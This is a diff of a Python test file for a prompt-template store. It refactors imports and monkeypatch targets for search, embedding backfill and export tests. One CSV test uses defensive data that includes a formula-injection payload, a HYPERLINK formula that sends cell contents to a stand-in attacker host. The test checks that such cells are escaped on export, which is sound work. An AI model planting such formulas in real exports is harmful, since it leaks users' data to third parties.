@@ -12,16 +12,16 @@ import numpy as np
 import pytest
 from sqlalchemy import inspect, text
 
-from promptsentry.optimizer import store as store_module
+from promptsentry.optimizer import templates as templates_module
 from promptsentry.optimizer.features import embedding_input
 from promptsentry.optimizer.similarity import lexical_similarity
-from promptsentry.optimizer.store import (
+from promptsentry.optimizer.tables import unpack_vector
+from promptsentry.optimizer.template_export import TEMPLATE_FIELDS
+from promptsentry.optimizer.templates import (
     MIN_SEMANTIC,
-    TEMPLATE_FIELDS,
     ImmutableContent,
     TemplateQuery,
     TemplateStore,
-    unpack_vector,
 )
 from promptsentry.stores.sql.migrate import make_engine, sqlite_url, upgrade
 from promptsentry.stores.sql.store import SqlStore
@@ -165,7 +165,7 @@ def test_semantic_search_finds_paraphrases_the_lexical_ranking_misses(store, mon
     # so the previous ranking (lexical measure + term bonus), which a store without the
     # encoder still uses, finds none of them
     monkeypatch.setattr(store, "_embedder", None)
-    monkeypatch.setattr(store_module, "default_embedder", lambda: None)
+    monkeypatch.setattr(templates_module, "default_embedder", lambda: None)
     for _, query in PARAPHRASES:
         assert store.search("t1", query) == []
 
@@ -214,7 +214,7 @@ def test_backfill_is_capped_per_search_and_can_run_up_front(store, engine, monke
     _make(store, "t2", original_prompt=PARAPHRASES[3][0])
     with engine.begin() as conn:
         conn.execute(text("UPDATE optimizer_templates SET embedding = NULL"))
-    monkeypatch.setattr(store_module, "BACKFILL_PER_SEARCH", 1)
+    monkeypatch.setattr(templates_module, "BACKFILL_PER_SEARCH", 1)
     hits = store.search("t1", "lullaby about the moon")  # rows still without a vector: lexical
     assert hits[0][0].id == ids[1]
     filled = [i for i in ids if _raw_embedding(engine, i) is not None]
@@ -261,7 +261,7 @@ class BrokenEmbedder:
 
 
 def test_search_without_encoder_falls_back_to_lexical(engine, monkeypatch):
-    monkeypatch.setattr(store_module, "default_embedder", lambda: None)
+    monkeypatch.setattr(templates_module, "default_embedder", lambda: None)
     bare = TemplateStore(engine)
     t = _make(bare, "t1")
     assert _raw_embedding(engine, t.id) is None  # saved all the same
@@ -312,7 +312,7 @@ async def test_optimize_embeds_the_prompt_head_once_for_detection_and_the_templa
 
 
 def test_template_answers_and_exports_carry_no_vector(store):
-    from promptsentry.optimizer.store import export_csv_lines, export_json_lines
+    from promptsentry.optimizer.template_export import export_csv_lines, export_json_lines
 
     t = _make(store, "t1")
     assert "embedding" not in TEMPLATE_FIELDS
@@ -395,7 +395,7 @@ def test_export_round_trip_json_and_csv(store):
     t = _make(store, "t1", title=AWKWARD[:150], original_prompt=AWKWARD,
               optimized_prompt=AWKWARD + "\n(optimized)", tags=["x,y", 'q"z'],
               target_audience="devs, \"ops\"")
-    from promptsentry.optimizer.store import export_csv_lines, export_json_lines
+    from promptsentry.optimizer.template_export import export_csv_lines, export_json_lines
 
     as_json = json.loads("".join(export_json_lines(store.iter_all("t1"))))
     assert len(as_json) == 1
@@ -419,7 +419,7 @@ def test_export_round_trip_json_and_csv(store):
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
     "\tleading tab", "'=already quoted", "''=twice", "'plain apostrophe", "''", "'", "plain"])
 def test_csv_export_escapes_formula_cells_reversibly(store, value):
-    from promptsentry.optimizer.store import (
+    from promptsentry.optimizer.template_export import (
         escape_csv_formula,
         export_csv_lines,
         unescape_csv_formula,
